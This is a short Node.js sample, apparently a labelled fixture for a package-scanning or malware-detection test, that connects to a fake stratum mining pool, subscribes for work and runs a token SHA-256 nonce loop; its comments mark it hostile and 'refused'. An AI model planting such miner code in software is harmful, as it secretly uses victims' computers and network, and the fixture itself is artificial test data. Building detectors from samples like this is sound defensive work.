// Hostile: asks a pool for work and hands out shares; pool and wallet do not exist.
// Families: cryptomining, network. As a package: refused.
const { connect } = require('node:net');
const { createHash } = require('node:crypto');

const pool = 'stratum+tcp://pool.example.invalid:3333';
const socket = connect(3333, new URL(pool.replace('stratum+tcp', 'http')).hostname);
socket.on('error', () => {});
socket.on('connect', () => socket.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] })));
socket.on('data', (work) => {
  for (let nonce = 0; nonce < 1000; nonce++) createHash('sha256').update(`${work}${nonce}`).digest();
});
